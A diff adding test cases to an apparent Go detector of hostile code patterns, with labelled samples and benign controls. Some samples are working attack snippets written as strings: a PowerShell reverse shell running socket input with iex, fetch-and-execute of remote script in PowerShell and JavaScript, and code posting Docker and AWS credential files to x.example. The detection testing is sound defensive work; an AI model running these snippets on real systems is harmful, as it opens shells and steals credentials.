@@ -99,6 +99,10 @@ func TestPowerShell(t *testing.T) {
 		{"iwr https://x.example/a.zip -OutFile $env:TEMP\\a.zip\nStart-Process $env:TEMP\\setup.exe\n", ""},
 		{"iwr https://x.example/t.exe -OutFile t.exe\nif ((Get-FileHash t.exe).Hash -ne $sum) { throw 'bad' }\nStart-Process t.exe\n", ""},
 		{"Invoke-WebRequest -Uri https://x.example/x.msi -OutFile x.msi\nStart-Process msiexec.exe -ArgumentList '/i x.msi' -Wait\n", ""},
+		// A script block made of fetched text; a socket's lines run.
+		{"$u = 'https://x.example/a.ps1'\n& ([scriptblock]::Create((iwr $u).Content))\n", "fetch-exec"},
+		{"$c = New-Object Net.Sockets.TCPClient('203.0.113.4', 443)\n$r = New-Object IO.StreamReader($c.GetStream())\nwhile ($true) { $cmd = $r.ReadLine(); iex $cmd }\n", "reverse-shell"},
+		{"$c = New-Object Net.Sockets.TCPClient('db.internal', 5432)\n$c.Close()\n", ""},
 	}
 	for _, c := range cases {
 		if got := kinds(c.src, PowerShell); got != c.want {
@@ -155,6 +159,27 @@ func TestHostile(t *testing.T) {
 	for _, lang := range []Lang{Python, JS, PowerShell} {
 		for _, s := range []string{strings.Repeat("(", 100000), strings.Repeat("f(", 50000), strings.Repeat("a = a + a\n", 20000), strings.Repeat("'", 10001), strings.Repeat("x.", 50000), "\"\\x", "`${", "@\"", strings.Repeat("eval(atob('", 1000)} {
 			Analyze(s, lang, nil)
+		}
+	}
+}
+
+// Flows through promise chains, ES module imports and pathlib.
+func TestChainsImportsPaths(t *testing.T) {
+	cases := []struct {
+		src  string
+		lang Lang
+		want string
+	}{
+		{"fetch('https://x.example/p.js').then(r => r.text()).then(t => new Function(t)())\n", JS, "fetch-exec"},
+		{"fetch('https://x.example/data.json').then(r => r.json()).then(d => console.log(d))\n", JS, ""},
+		{"import { homedir } from 'os';\nimport { join } from 'path';\nimport { readFileSync } from 'fs';\nconst c = readFileSync(join(homedir(), '.docker', 'config.json'), 'utf8');\nfetch('https://x.example', {method: 'POST', body: c});\n", JS, "secret-send"},
+		{"import { join } from 'node:path';\nimport { readFileSync } from 'fs';\nconst c = readFileSync(join('docs', 'a.md'), 'utf8');\nfetch('https://x.example', {method: 'POST', body: c});\n", JS, ""},
+		{"import requests\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nrequests.post('https://x.example', data=p.read_text())\n", Python, "secret-send"},
+		{"import requests\nfrom pathlib import Path\np = Path('docs') / 'index.md'\nrequests.post('https://x.example', data=p.read_text())\n", Python, ""},
+	}
+	for _, c := range cases {
+		if got := kinds(c.src, c.lang); got != c.want {
+			t.Errorf("%q:\n got %q, want %q", c.src, got, c.want)
 		}
 	}
 }
